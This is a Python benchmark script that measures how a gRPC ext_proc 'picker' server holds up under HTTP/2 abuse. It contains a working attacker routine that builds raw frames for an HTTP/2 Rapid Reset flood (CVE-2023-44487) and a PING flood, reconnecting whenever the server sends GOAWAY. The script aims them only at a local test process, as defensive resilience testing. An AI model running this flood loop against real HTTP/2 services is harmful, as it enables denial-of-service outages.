"""Benchmark: what a hostile HTTP/2 peer costs `igw picker` (its own gRPC server).

Starts the picker as `picker_throughput.py` does (a child process pinned to one CPU, 8
in-memory pods, the store's fetch seam answering their metrics), then per attack:

1. unloaded — `--exchanges` normal ext_proc exchanges one after another (a grpcio
   client plays Envoy): the picker's CPU per exchange and the exchange's p50;
2. attack — an attacker process sends, as fast as one client can, for
   `--attack-seconds`: `reset` = HEADERS + RST_STREAM pairs (CVE-2023-44487), `ping` =
   PING frames without ever reading the answers. It reconnects whenever the picker
   ends its connection. Meanwhile normal exchanges run one after another (their p50
   under attack) and the picker's RSS is sampled;
3. after — the unloaded measurement again, with the RSS growth since phase 1.

The must-hold lines (issue 14): after 10 s of rapid reset the picker's CPU per normal
exchange stays within 2x of its unloaded figure and its RSS grows by less than 20 MB; a
PING flood without reading leaves its RSS bounded.

    python bench/picker_abuse.py [--attacks reset,ping] [--attack-seconds 10]
        [--exchanges 300] [--src DIR] [--json]

`--src DIR` runs the picker from another source tree's `gateway_src` (e.g. an export of
main) so before and after can be measured side by side in one session. A benchmark,
not a test: figures depend on the machine and what else runs on it.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import select
import signal
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

from picker_throughput import cpu_seconds, exchange, messages, pct  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
    )


# ---------------------------------------------------------------------- attacker (child)


def attack(port: int, kind: str, seconds: float) -> dict[str, int]:
    """One client, as fast as it can write; a new connection when the picker ends one."""
    from hpack import Encoder

    path = "/envoy.service.ext_proc.v3.ExternalProcessor/Process"
    headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "picker"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    deadline = time.monotonic() + seconds
    frames = connections = 0
    while time.monotonic() < deadline:
        connections += 1
        encoder = Encoder()
        first, repeat = encoder.encode(headers), encoder.encode(headers)  # then indexed only
        stream = 1
        inbox = bytearray()
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5) as sock:
                sock.sendall(PREFACE + frame(4, 0, 0))
                while time.monotonic() < deadline:
                    batch = []
                    for _ in range(100):
                        if kind == "reset":
                            block = first if stream == 1 else repeat
                            batch.append(frame(1, 0x4, stream, block))
                            batch.append(frame(3, 0, stream, (8).to_bytes(4, "big")))
                            stream += 2
                        else:
                            batch.append(frame(6, 0, 0, frames.to_bytes(8, "big")))
                        frames += 1
                    try:
                        sock.sendall(b"".join(batch))
                    except TimeoutError:
                        continue  # the picker stopped reading us: keep pushing
                    if goaway_seen(sock, inbox):
                        break  # told to go away: a new connection at once
        except OSError:
            pass  # GOAWAY and close: reconnect
    return {"frames": frames, "connections": connections}


def goaway_seen(sock: socket.socket, inbox: bytearray) -> bool:
    """Read what has arrived without waiting; True once a GOAWAY frame is among it."""
    if select.select([sock], [], [], 0)[0]:  # recv() would wait out the socket timeout
        inbox += sock.recv(1 << 20)
    offset = 0
    while len(inbox) - offset >= 9:
        end = offset + 9 + int.from_bytes(inbox[offset : offset + 3], "big")
        if end > len(inbox):
            break
        if inbox[offset + 3] == 7:
            return True
        offset = end
    del inbox[:offset]
    return False


# ---------------------------------------------------------------------- measuring


def rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


async def normal(stub: Any, m: dict[str, Any], count: int, pid: int) -> dict[str, float]:
    """`count` exchanges one after another: picker CPU per exchange, p50 wall time."""
    walls = []
    cpu0 = cpu_seconds(pid)
    for n in range(count):
        walls.append((await exchange(stub, m, n))[1])
    cpu = cpu_seconds(pid) - cpu0
    return {
        "cpu_ms_per_exchange": round(cpu / count * 1000, 3),
        "p50_ms": round(pct(walls, 0.5), 3),
    }


async def under_attack(
    stub: Any, m: dict[str, Any], pid: int, attacker: subprocess.Popen[bytes], seconds: float
) -> dict[str, Any]:
    walls: list[float] = []
    peak = rss_mb(pid)
    failures = 0
    deadline = time.perf_counter() + seconds + 5
    n = 0
    while attacker.poll() is None and time.perf_counter() < deadline:
        try:
            async with asyncio.timeout(5):
                walls.append((await exchange(stub, m, n))[1])
        except Exception:  # a refused or timed-out exchange is the finding, not a crash
            failures += 1
        n += 1
        peak = max(peak, rss_mb(pid))
    return {
        "exchanges": len(walls),
        "failed": failures,
        "p50_ms": round(pct(walls, 0.5), 3) if walls else None,
        "peak_rss_mb": round(peak, 1),
    }


async def measure(port: int, pid: int, args: argparse.Namespace, kind: str) -> dict[str, Any]:
    import grpc
    from envoy.service.ext_proc.v3 import external_processor_pb2_grpc as pb_grpc

    m = messages(8192)
    async with grpc.aio.insecure_channel(f"127.0.0.1:{port}") as channel:
        stub = pb_grpc.ExternalProcessorStub(channel)
        for n in range(100):  # warm-up
            await exchange(stub, m, n)
        before = await normal(stub, m, args.exchanges, pid)
        rss0 = rss_mb(pid)
        command = [sys.executable, __file__, "--attack", kind, "--port", str(port)]
        command += ["--attack-seconds", str(args.attack_seconds)]
        attacker = subprocess.Popen(command, stdout=subprocess.PIPE)
        during = await under_attack(stub, m, pid, attacker, args.attack_seconds)
        out, _ = attacker.communicate(timeout=30)
        await asyncio.sleep(1.5)  # lingering connections close
        after = await normal(stub, m, args.exchanges, pid)
    rss1 = rss_mb(pid)
    return {
        "attack": kind,
        "attacker": json.loads(out or b"{}"),
        "unloaded": before,
        "under_attack": during,
        "after": after,
        "cpu_ratio_after": round(after["cpu_ms_per_exchange"] / before["cpu_ms_per_exchange"], 2),
        "rss_mb": {
            "before": round(rss0, 1),
            "peak": during["peak_rss_mb"],
            "after": round(rss1, 1),
            "growth": round(rss1 - rss0, 1),
            "peak_growth": round(during["peak_rss_mb"] - rss0, 1),
        },
    }


def run(args: argparse.Namespace, kind: str) -> dict[str, Any]:
    env = dict(os.environ)
    if args.src:
        source = str(Path(args.src).resolve() / "gateway_src")
        env["PYTHONPATH"] = os.pathsep.join([source, env.get("PYTHONPATH", "")])
    with tempfile.TemporaryDirectory() as tmp:
        port_file = Path(tmp) / "port"
        command = [sys.executable, str(HERE / "picker_throughput.py"), "--serve", str(port_file)]
        command += ["--pods", "8", "--cpu", str(args.cpu), "--transport", "http2"]
        child = subprocess.Popen(command, env=env)
        try:
            for _ in range(300):
                if port_file.exists() and port_file.read_text():
                    break
                if child.poll() is not None:
                    raise SystemExit("picker process exited early")
                time.sleep(0.1)
            return asyncio.run(measure(int(port_file.read_text()), child.pid, args, kind))
        finally:
            child.send_signal(signal.SIGTERM)
            try:
                child.wait(timeout=10)
            except subprocess.TimeoutExpired:
                child.kill()


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--attacks", default="reset,ping")
    parser.add_argument("--attack-seconds", type=float, default=10.0)
    parser.add_argument("--exchanges", type=int, default=300)
    parser.add_argument("--cpu", type=int, default=0, help="CPU the picker is pinned to")
    parser.add_argument("--src", help="source tree whose gateway_src the picker runs")
    parser.add_argument("--json", action="store_true", help="one JSON object on stdout")
    parser.add_argument("--attack", help=argparse.SUPPRESS)
    parser.add_argument("--port", type=int, help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.attack:
        print(json.dumps(attack(args.port, args.attack, args.attack_seconds)))
        return 0
    kinds = [k for k in args.attacks.split(",") if k]
    if not set(kinds) <= {"reset", "ping"} or args.attack_seconds <= 0 or args.exchanges <= 0:
        parser.error("--attacks takes reset,ping; seconds and exchanges must be positive")
    results = [run(args, kind) for kind in kinds]
    report = {
        "src": args.src or "this tree",
        "results": results,
        "host": {"cpus": os.cpu_count(), "loadavg": [round(x, 2) for x in os.getloadavg()]},
    }
    if args.json:
        print(json.dumps(report))
        return 0
    for r in results:
        print(
            f"{r['attack']:>5}: attacker {r['attacker']}  "
            f"cpu/exchange {r['unloaded']['cpu_ms_per_exchange']} -> "
            f"{r['after']['cpu_ms_per_exchange']} ms (x{r['cpu_ratio_after']})  "
            f"p50 {r['unloaded']['p50_ms']} ms, under attack {r['under_attack']['p50_ms']} ms "
            f"({r['under_attack']['exchanges']} ok, {r['under_attack']['failed']} failed)  "
            f"RSS {r['rss_mb']}"
        )
    return 0


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        sys.exit(main())
